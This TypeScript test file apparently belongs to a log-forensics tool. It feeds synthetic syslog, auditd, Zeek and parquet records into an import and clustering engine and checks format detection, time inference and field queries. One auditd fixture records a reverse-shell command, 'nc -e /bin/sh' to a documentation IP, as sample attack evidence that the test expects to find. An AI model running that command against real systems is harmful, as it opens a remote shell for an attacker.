/** Logs of Unix, of the network and of data lakes through the whole engine: into a case, into the rooms. */
import { mkdirSync, utimesSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { afterAll, beforeAll, expect, test } from 'vitest';
import type { ImportResult } from '#contract/api.ts';
import { parquetFile } from '#test/support/parquet-writer.ts';
import { Workbench } from '#test/support/workbench.ts';

const auth = Array.from({ length: 40 }, (_, i) => {
  const clock = `10:${String(i).padStart(2, '0')}:00`;
  const day = i < 20 ? 'Dec 31' : 'Jan  1';
  return i % 4 === 3
    ? `${day} ${clock} web1 sshd[${i}]: Failed password for root from 203.0.113.${i} port 4${i} ssh2`
    : `${day} ${clock} web1 sshd[${i}]: Accepted publickey for ann from 10.0.0.5 port 4${i} ssh2`;
}).join('\n');
const audit = Array.from({ length: 30 }, (_, i) => {
  const stamp = `msg=audit(1700000000.${100 + i}:${i})`;
  const program = i === 29 ? 'nc' : 'ls';
  return [
    `node=web1 type=SYSCALL ${stamp}: arch=c000003e syscall=59 success=yes ppid=1 pid=${i + 10} uid=0 comm="${program}" exe="/bin/${program}"`,
    `node=web1 type=EXECVE ${stamp}: argc=2 a0="${program}" a1="${i === 29 ? '-e /bin/sh 203.0.113.9 443' : '-l'}"`,
  ].join('\n');
}).join('\n');
const zeek = `#separator \\x09\n#path\tdns\n#fields\tts\tuid\tquery\n#types\ttime\tstring\tstring\n1700000000.000001\tC1\ta.example\n`;

const bench = new Workbench();
let result: ImportResult;

beforeAll(async () => {
  await bench.create();
  const folder = path.join(bench.folder, 'evidence');
  mkdirSync(folder);
  const files: Readonly<Record<string, string | Buffer>> = {
    'a.bin': auth,
    'b.bin': audit,
    'c.bin': zeek,
    'd.bin': parquetFile([
      [
        {
          name: 'TimeGenerated',
          type: 'text',
          values: ['2024-01-01T00:00:00Z', '2024-01-01T00:00:01Z'],
        },
        { name: 'EventID', type: 'int32', values: [4688, 4688] },
        { name: 'Computer', type: 'text', values: ['PC1', 'PC1'] },
        { name: 'NewProcessName', type: 'text', values: ['C:\\a.exe', 'C:\\b.exe'] },
      ],
    ]),
  };
  for (const [name, content] of Object.entries(files))
    writeFileSync(path.join(folder, name), content);
  // The log was last written to on 2 January 2022.
  utimesSync(path.join(folder, 'a.bin'), 1_641_100_000, 1_641_100_000);
  result = await bench.import(folder);
}, 60_000);

afterAll(() => bench.close());

test('every file is known by its content, and its records add up', () => {
  expect(
    result.evidence.map(({ format, recordsSeen, imported, rejected, status }) => ({
      format,
      recordsSeen,
      imported,
      rejected,
      status,
    })),
  ).toEqual([
    { format: 'syslog', recordsSeen: 40, imported: 40, rejected: 0, status: 'complete' },
    { format: 'auditd', recordsSeen: 30, imported: 30, rejected: 0, status: 'complete' },
    { format: 'zeek', recordsSeen: 1, imported: 1, rejected: 0, status: 'complete' },
    { format: 'parquet', recordsSeen: 2, imported: 2, rejected: 0, status: 'complete' },
  ]);
  const [syslog] = result.evidence;
  expect(syslog).toMatchObject({
    firstTime: '2021-12-31T10:00:00Z',
    lastTime: '2022-01-01T10:39:00Z',
  });
  expect(syslog!.problems.map(({ code }) => code).sort()).toEqual([
    'time-zone-assumed',
    'year-assumed',
  ]);
});

test('a log without years can be given one', async () => {
  const other = await new Workbench().create();
  try {
    const file = path.join(other.folder, 'auth.log');
    writeFileSync(file, auth);
    const { job } = await other.ask('import.start', { paths: [file], options: { year: 2015 } });
    const { evidence } = (await other.result(job)) as ImportResult;
    expect(evidence[0]).toMatchObject({
      firstTime: '2015-12-31T10:00:00Z',
      lastTime: '2016-01-01T10:39:00Z',
    });
    expect(evidence[0]!.problems.map(({ code }) => code)).toEqual(['time-zone-assumed']);
  } finally {
    await other.close();
  }
}, 60_000);

test('a log that runs over several years ends at the last change of its file', async () => {
  const other = await new Workbench().create();
  try {
    const file = path.join(other.folder, 'messages');
    const days = Array.from({ length: 30 }, (_, i) => ['Mar', 'Jul', 'Nov'][i % 3]!);
    writeFileSync(file, days.map((month) => `${month}  5 10:00:00 h p[1]: x\n`).join(''));
    utimesSync(file, 1_641_100_000, 1_641_100_000);
    const { evidence } = await other.import(file);
    expect(evidence[0]).toMatchObject({
      firstTime: '2012-03-05T10:00:00Z',
      lastTime: '2021-11-05T10:00:00Z',
    });
  } finally {
    await other.close();
  }
}, 60_000);

test('logons of sshd are logons to the room of logons', async () => {
  const { input } = await bench.run('logon-clusters', { method: 'profiles' });
  expect(input.events).toBe(30);
});

test('programs that auditd saw are processes to the rooms of processes', async () => {
  const run = await bench.run('event-clusters', { method: 'templates' }, 'event.provider:auditd');
  expect(run.input.events).toBe(30);
  const { block } = await bench.ask('runs.table', { run: run.run, table: 'clusters' });
  expect(JSON.stringify(block)).toContain('nc');
});

test('fields that have no column are found and shown under their own names', async () => {
  const count = async (query: string): Promise<number> =>
    (await bench.ask('events.count', { scope: { query, chips: [] } })).total;
  expect(await count('EXECVE.a0:nc')).toBe(1);
  expect(await count('message:Failed?password?for?root*')).toBe(10);
  expect(await count('uid:C1')).toBe(1);
  expect(await count('event.action:logon-failed and source.ip:203.0.113.3')).toBe(1);
  const detail = await bench.ask('events.detail', { id: 1 });
  expect(detail.fields).toContainEqual({ name: 'process.name', value: 'sshd', group: 'record' });
});
